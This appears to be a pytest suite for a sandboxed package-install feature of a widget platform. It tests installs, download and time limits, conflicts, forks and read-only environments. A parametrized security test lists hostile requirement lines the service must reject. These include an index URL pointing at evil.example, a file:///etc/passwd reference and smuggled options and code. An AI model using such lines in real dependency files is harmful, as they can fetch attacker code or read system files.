"""Packages through the whole product: asked for over the API, installed in a sandbox, imported by a run."""

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from tests.fixtures.stack import Stack
from tests.services.packages.conftest import Owner
from tests.services.packages.index import Index

GREET = "import greeting\nprint(greeting.WORDS)\n"


@pytest.fixture(autouse=True)
def _packages(index: Index) -> None:
    index.slow_s = 0.0
    for version in ("1.0", "2.0"):
        index.add_wheel("greeting", version, {"greeting.py": f"WORDS = 'hello {version}'\n"})


def test_p_01_p_02_a_package_of_the_list_is_installed_and_imported(owner: Owner) -> None:
    slug = owner.widget(GREET, "greeting==1.0")

    assert owner.said(slug) == "hello 1.0\n"
    shown = owner.person.call("GET", f"/widgets/{slug}").json
    assert shown["requirements"] == ["greeting==1.0"]
    assert shown["files"]["requirements.txt"] == "greeting==1.0\n"
    assert shown["environment"] == {"status": "ready", "message": ""}


def test_p_02_a_saved_requirements_txt_is_installed_as_well(owner: Owner) -> None:
    slug = owner.widget(GREET)
    saved = owner.person.call("PUT", f"/widgets/{slug}/files", {"files": {"requirements.txt": "# words\ngreeting\n"}})

    assert saved.status == 200
    assert owner.settled(slug)["packages"] == ["greeting==2.0"]
    assert owner.said(slug) == "hello 2.0\n"


def test_p_03_the_download_limit_ends_an_install_and_the_packages_from_before_stay(owner: Owner, index: Index) -> None:
    index.add_wheel("heavy", "1.0", {"heavy.bin": b"x" * 6_000_000, "heavy.py": ""})
    slug = owner.widget(GREET, "greeting==1.0")

    found = owner.ask(slug, "greeting==2.0", "heavy")

    assert (found["status"], found["reason"]) == ("failed", "limit")
    assert "download limit of 3 MB" in found["message"]
    assert "WIDGETRY_INSTALL_MAX_MB" in found["message"]
    assert found["downloaded_bytes"] < 4_500_000
    assert owner.said(slug) == "hello 1.0\n"


def test_p_04_the_time_limit_ends_an_install(owner: Owner, index: Index) -> None:
    index.add_wheel("patience", "1.0", {"patience.py": ""})
    slug = owner.widget(GREET, "greeting==1.0")
    index.slow_s = 20.0

    found = owner.ask(slug, "patience")

    index.slow_s = 0.0
    assert (found["status"], found["reason"]) == ("failed", "time")
    assert "longer than 8 s" in found["message"]
    assert owner.said(slug) == "hello 1.0\n"
    # The same list again tries again.
    assert owner.ask(slug, "patience")["status"] == "ready"


def test_p_05_a_version_that_does_not_exist_is_told_in_words_and_in_the_log(owner: Owner) -> None:
    slug = owner.widget(GREET)

    found = owner.ask(slug, "greeting==9.9")

    assert (found["status"], found["reason"]) == ("failed", "version")
    assert "greeting==9.9" in found["message"]
    assert "requirements are unsatisfiable" in found["log"]
    assert (
        owner.ask(slug, "no-such-thing")["message"] == "There is no package no-such-thing on the index. Check its name."
    )


def test_p_05_a_conflict_is_told_with_what_contradicts_what(owner: Owner, index: Index) -> None:
    index.add_wheel("choosy", "1.0", {"choosy.py": ""}, requires="greeting<2")
    slug = owner.widget(GREET)

    found = owner.ask(slug, "choosy", "greeting==2.0")

    assert (found["status"], found["reason"]) == ("failed", "conflict")
    assert "choosy" in found["message"]
    assert "greeting" in found["message"]


def test_p_06_a_list_that_was_installed_before_is_ready_at_once_for_everybody(
    owner: Owner, site: Stack, index: Index
) -> None:
    owner.widget(GREET, "greeting==1.0")
    asked = len(index.asked)
    other = site.sign_up()

    body = {"kind": "script", "title": "Same", "files": {"main.py": GREET}, "requirements": ["Greeting ==1.0"]}
    made = other.call("POST", "/widgets", body).json

    assert made["environment"]["status"] == "ready"
    assert Owner(other).said(made["slug"]) == "hello 1.0\n"
    assert len(index.asked) == asked


def test_p_07_a_fork_copies_the_list_and_runs_at_once(owner: Owner, site: Stack) -> None:
    slug = owner.widget(GREET, "greeting==1.0")
    other = site.sign_up()

    fork = other.call("POST", f"/widgets/{slug}/fork").json

    assert fork["requirements"] == ["greeting==1.0"]
    assert fork["environment"]["status"] == "ready"
    assert Owner(other).said(fork["slug"]) == "hello 1.0\n"


def test_p_08_no_package_replaces_the_anvil_library(owner: Owner, index: Index) -> None:
    fake = {"anvil/__init__.py": "FAKE = True\n", "anvil/server.py": "FAKE = True\n"}
    index.add_wheel("notanvil", "1.0", fake)

    slug = owner.widget("import anvil.server\nprint(anvil.__file__, hasattr(anvil, 'FAKE'))\n", "notanvil")

    assert owner.environment(slug)["packages"] == ["notanvil==1.0"]
    assert owner.said(slug).startswith("/opt/anvil/")
    assert owner.said(slug).endswith("False\n")


def test_p_10_another_version_and_a_removed_package_count_from_the_next_run_on(owner: Owner) -> None:
    slug = owner.widget(GREET, "greeting==1.0")
    assert owner.said(slug) == "hello 1.0\n"

    owner.ask(slug, "greeting==2.0")
    assert owner.said(slug) == "hello 2.0\n"

    owner.ask(slug)
    assert "No module named 'greeting'" in owner.said(slug)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example/simple",
        "-e git+https://evil.example/x.git#egg=x",
        "x @ file:///etc/passwd",
        "x @ https://evil.example/x-1.0.whl",
        "./x",
        "/etc/passwd",
        "-r other.txt",
        "greeting\n--index-url http://evil.example",
        "greeting\r--pre",
        "greeting; import os",
        "greeting --hash=sha256:00",
        "greeting==1.0 --config-settings=a=b",
    ],
)
def test_security_41_only_plain_requirement_lines_are_taken(owner: Owner, line: str) -> None:
    slug = owner.widget(GREET)

    refused = owner.person.call("PUT", f"/widgets/{slug}/requirements", {"requirements": [line]})

    assert refused.status == 400
    assert owner.person.call("GET", f"/widgets/{slug}").json["requirements"] == []


def test_security_41_a_bad_line_in_a_saved_file_installs_nothing_and_says_which(owner: Owner) -> None:
    slug = owner.widget(GREET, "greeting==1.0")

    text = "greeting==2.0\n--index-url http://evil.example\n"
    owner.person.call("PUT", f"/widgets/{slug}/files", {"files": {"requirements.txt": text}})

    found = owner.settled(slug)
    assert (found["status"], found["reason"]) == ("failed", "line")
    assert "--index-url" in found["message"]
    assert owner.said(slug) == "hello 1.0\n"


def test_security_40_many_installs_and_runs_of_one_new_package_at_once_all_succeed(owner: Owner, index: Index) -> None:
    index.add_wheel("crowd", "1.0", {"crowd.py": "WORDS = 'all here'\n"})
    slugs = [owner.widget("import crowd\nprint(crowd.WORDS)\n") for _ in range(12)]

    def install_and_run(slug: str) -> str:
        assert owner.ask(slug, "crowd")["status"] == "ready"
        return owner.said(slug)

    with ThreadPoolExecutor(12) as threads:
        said = list(threads.map(install_and_run, slugs))

    assert said == ["all here\n"] * 12


def test_an_environment_is_read_only_and_shown_alone(owner: Owner, site: Stack) -> None:
    slug = owner.widget(
        "import os, greeting\n"
        "for act in (lambda: open('/env/new.py', 'w'), lambda: open(greeting.__file__, 'a')):\n"
        "    try:\n        act()\n        print('written')\n"
        "    except OSError as error:\n        print(error.errno)\n"
        "print(os.listdir('/envs'))\n",
        "greeting==1.0",
    )

    said = owner.said(slug)
    assert "written" not in said
    assert said.endswith("[]\n")
    store = site.data / "environments"
    assert [entry.name for entry in store.iterdir() if entry.name.startswith(".")] == []
    assert all(not path.stat().st_mode & 0o222 for path in Path(store).rglob("*"))


def test_an_install_is_in_the_list_of_runs_with_its_log(owner: Owner, index: Index) -> None:
    # A package of its own: nothing is installed for whom there is an environment already.
    index.add_wheel("logged", "1.0", {"logged.py": ""})
    slug = owner.widget("import logged\n", "logged==1.0")
    owner.ask(slug, "logged==7.0")

    items = owner.installs(slug, 2)

    assert [item["outcome"] for item in items] == ["error", "ok"]
    assert "logged" in items[0]["error"]
    said = owner.person.call("GET", f"/runs/{items[1]['id']}/events").json["events"]
    assert "logged==1.0" in "".join(event["text"] for event in said)
